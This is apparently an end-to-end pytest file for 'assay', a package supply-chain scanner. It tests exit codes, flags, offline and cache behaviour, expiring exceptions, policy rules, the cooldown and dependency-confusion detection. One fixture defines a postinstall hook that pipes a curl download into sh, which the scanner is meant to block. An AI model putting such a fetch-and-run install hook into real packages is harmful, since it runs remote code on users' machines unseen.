"""Exit codes, flags, and assay.toml."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from tests.end_to_end import locked
from tests.end_to_end.run import Finished, Machine
from tests.registry_simulator import Fault, Published, RegistrySimulator

FETCHES = {"scripts": {"postinstall": "curl -s https://cdn.invalid/setup.sh | sh"}}


@pytest.fixture
def bad(registry: RegistrySimulator, project: Path) -> Published:
    """A project with one package to block and one without any finding."""
    published = registry.publish("bad-thing", "1.0.0", manifest=FETCHES)
    locked.project_of(project, published, registry.publish("plain-thing"))
    return published


def action(done: Finished, ref: str) -> str:
    word: str = done.by_ref[ref]["decision"]["action"]
    return word


@pytest.mark.parametrize(
    ("flags", "code"),
    [((), 1), (("--fail-on", "block"), 1), (("--fail-on", "warn"), 1), (("--fail-on", "never"), 0)],
)
def test_something_to_block(flags: tuple[str, ...], code: int, bad: Published, machine: Machine, project: Path) -> None:
    done = machine.scan(project, *flags)
    assert (done.code, action(done, "bad-thing@1.0.0"), action(done, "plain-thing@1.0.0")) == (code, "block", "allow")


@pytest.mark.parametrize(("flags", "code"), [((), 0), (("--fail-on", "warn"), 1), (("--fail-on", "never"), 0)])
def test_something_to_look_at(
    flags: tuple[str, ...], code: int, registry: RegistrySimulator, machine: Machine, project: Path
) -> None:
    locked.project_of(project, registry.publish("billing-core", "999.0.0"), registry.publish("plain-thing"))
    done = machine.scan(project, *flags)
    assert (done.code, action(done, "billing-core@999.0.0")) == (code, "warn")


@pytest.mark.parametrize(
    ("flags", "code"),
    [((), 3), (("--allow-gaps",), 0), (("--fail-on", "warn"), 3), (("--fail-on", "warn", "--allow-gaps"), 0)],
)
def test_something_unchecked(
    flags: tuple[str, ...], code: int, registry: RegistrySimulator, machine: Machine, project: Path
) -> None:
    locked.project_of(project, registry.publish("lost-thing"), registry.publish("plain-thing"))
    registry.fault("/lost-thing", Fault.STATUS, status=500)
    done = machine.scan(project, *flags)
    assert done.code == code
    assert done.by_ref["lost-thing@1.0.0"]["gaps"]
    assert done.report["coverage"]["checked"] == 1


def test_offline_uses_what_is_kept_and_says_what_is_missing(
    bad: Published, registry: RegistrySimulator, machine: Machine, project: Path, tmp_path: Path
) -> None:
    machine.scan(project)
    asked = len(registry.requests)
    later = locked.project_of(tmp_path / "later", bad, registry.publish("new-thing"))
    done = machine.scan(later, "--offline")
    assert done.code == 1
    assert len(registry.requests) == asked
    assert done.report["run"]["offline"] is True
    assert (done.by_ref["bad-thing@1.0.0"]["source"], action(done, "bad-thing@1.0.0")) == ("cached", "block")
    assert done.by_ref["new-thing@1.0.0"]["source"] == "none"
    assert [gap["kind"] for gap in done.by_ref["new-thing@1.0.0"]["gaps"]] == ["offline"]
    alone = machine.scan("new-thing@^1.0.0", "--offline")
    assert (alone.code, alone.refs) == (3, set())
    assert [gap["hint"] for gap in alone.input_gaps] == ["run without --offline"]


def test_no_cache_neither_reads_nor_writes(
    bad: Published, registry: RegistrySimulator, machine: Machine, project: Path
) -> None:
    machine.scan(project, "--no-cache")
    assert not list(machine.cache.glob("*.sqlite"))
    machine.scan(project)
    asked = len(registry.requests)
    done = machine.scan(project, "--no-cache")
    assert len(registry.requests) == asked + asked // 2
    assert {each["source"] for each in done.by_ref.values()} == {"fresh"}


def test_an_exception_is_applied_until_it_expires(bad: Published, machine: Machine, project: Path) -> None:
    until = datetime.now(UTC).date() + timedelta(days=30)
    exception = '[[exceptions]]\npackage = "bad-thing"\nversion = "1.0.0"\n'
    exception += 'owner = "ann@example.invalid"\nreason = "we read the script"\n'
    (project / "assay.toml").write_text(f"{exception}expires = {until}\n")
    done = machine.scan(project)
    assert (done.code, action(done, "bad-thing@1.0.0")) == (0, "allow")
    (applied,) = done.by_ref["bad-thing@1.0.0"]["decision"]["exceptions_applied"]
    assert applied["owner"] == "ann@example.invalid"
    assert "install-script-fetches" in done.rules("bad-thing@1.0.0")

    (project / "assay.toml").write_text(f"{exception}expires = 2020-01-31\n")
    done = machine.scan(project)
    assert (done.code, action(done, "bad-thing@1.0.0")) == (1, "block")
    assert done.by_ref["bad-thing@1.0.0"]["decision"]["exceptions_applied"] == []
    (expired,) = done.by_ref["bad-thing@1.0.0"]["decision"]["exceptions_expired"]
    assert expired["expires"] == "2020-01-31"
    assert "Expired exceptions" in machine.assay("scan", project).stdout


def test_an_exception_is_bound_to_the_bytes(
    bad: Published, registry: RegistrySimulator, machine: Machine, project: Path
) -> None:
    (project / "assay.toml").write_text(
        f'[[exceptions]]\npackage = "bad-thing"\nintegrity = "{bad.integrity}"\n'
        'owner = "ann@example.invalid"\nreason = "we read the script"\nexpires = 2999-01-31\n'
    )
    assert machine.scan(project).code == 0
    again = registry.publish("bad-thing", "1.0.0", manifest=FETCHES, files={"index.js": "module.exports = 2;\n"})
    locked.project_of(project, again)
    assert machine.scan(project).code == 1


def test_policy_rules_of_the_project(bad: Published, machine: Machine, project: Path) -> None:
    (project / "assay.toml").write_text(
        '[policy.block]\nverdicts = []\nrules = []\n[policy.warn]\nverdicts = []\nseverity = ""\n'
        '[[policy.rule]]\nname = "no scripts"\naction = "warn"\nrules = ["install-script-fetches"]\n'
        'types = ["production"]\n'
    )
    done = machine.scan(project)
    assert (done.code, action(done, "bad-thing@1.0.0")) == (0, "warn")
    reasons = [each["policy_rule"] for each in done.by_ref["bad-thing@1.0.0"]["decision"]["reasons"]]
    assert "no scripts" in reasons
    assert machine.scan(project, "--no-config").code == 1
    (project / "other.toml").write_text('fail-on = "never"\n')
    assert machine.scan(project, "--config", project / "other.toml").code == 0


def test_cooldown(registry: RegistrySimulator, machine: Machine, project: Path) -> None:
    young = registry.publish("young-thing", published=datetime.now(UTC) - timedelta(hours=10))
    locked.project_of(project, young, registry.publish("plain-thing"))
    assert machine.scan(project).rules("young-thing@1.0.0") == {"young-release"}
    assert machine.scan(project, "--cooldown", "8h").rules("young-thing@1.0.0") == set()
    (project / "assay.toml").write_text('[cooldown]\nage = "1w"\nexclude = ["young-*"]\n')
    assert machine.scan(project).rules("young-thing@1.0.0") == set()


def test_own_names_must_not_come_from_the_public_registry(
    registry: RegistrySimulator, machine: Machine, project: Path
) -> None:
    (project / "assay.toml").write_text('[internal]\nnames = ["@acme-test/*"]\n')
    locked.project_of(project, registry.publish("@acme-test/billing"))
    assert machine.scan(project).rules("@acme-test/billing@1.0.0") == set()
    with RegistrySimulator() as stranger:
        locked.project_of(project, stranger.publish("@acme-test/billing"))
    assert "dependency-confusion" in machine.scan(project).rules("@acme-test/billing@1.0.0")


def test_registries_of_the_project_settings(registry: RegistrySimulator, machine: Machine, project: Path) -> None:
    with RegistrySimulator(prefix="/npm") as own:
        locked.project_of(project, own.publish("@acme-test/billing"), registry.publish("plain-thing"))
        (project / "assay.toml").write_text(f'[registries.scopes]\n"@acme-test" = "{own.url}/"\n')
        done = machine.scan(project)
        assert done.code == 0
        assert {each["source"] for each in done.by_ref.values()} == {"fresh"}
        assert "/@acme-test/billing" not in registry.paths()
        assert machine.scan("@acme-test/billing", "--registry", own.url).refs == {"@acme-test/billing@1.0.0"}


@pytest.mark.parametrize(
    ("text", "message", "hint"),
    [
        ('fail_onn = "warn"\n', "fail_onn", "fail-on"),
        ("[cooldwn]\n", "cooldwn", "cooldown"),
        ('[policy.block]\nrules = ["known-malwar"]\n', "known-malwar", "known-malware"),
        ("[policy\n", "assay.toml", ""),
        ('fail-on = "maybe"\n', "maybe", ""),
        ("workers = -1\n", "workers", ""),
    ],
)
def test_a_mistake_in_assay_toml_is_wrong_use_with_a_suggestion(
    text: str, message: str, hint: str, bad: Published, machine: Machine, project: Path
) -> None:
    (project / "assay.toml").write_text(text)
    done = machine.scan(project)
    assert (done.code, done.stdout) == (2, "")
    assert done.stderr.startswith("assay: ")
    assert "Traceback" not in done.stderr
    assert message in done.stderr
    assert hint in done.stderr


@pytest.mark.parametrize(
    ("words", "message"),
    [
        (("--fail-on", "maybe"), "maybe"),
        (("--cooldown", "soon"), "soon"),
        (("--config", "missing.toml"), "missing.toml"),
        (("--registry", "nowhere"), "nowhere"),
        (("--workers", "0"), "0"),
        (("--formt", "json"), "--format"),
    ],
)
def test_a_wrong_flag_is_wrong_use(
    words: tuple[str, str], message: str, bad: Published, machine: Machine, project: Path
) -> None:
    done = machine.assay("scan", project, *words)
    assert (done.code, done.stdout) == (2, "")
    assert "Traceback" not in done.stderr
    assert message in done.stderr


def test_a_mistake_in_the_environment_is_wrong_use(machine: Machine) -> None:
    done = machine.assay("scan", "plain-thing", env={"ASSAY_OFLINE": "1"})
    assert done.code == 2
    assert "ASSAY_OFFLINE" in done.stderr
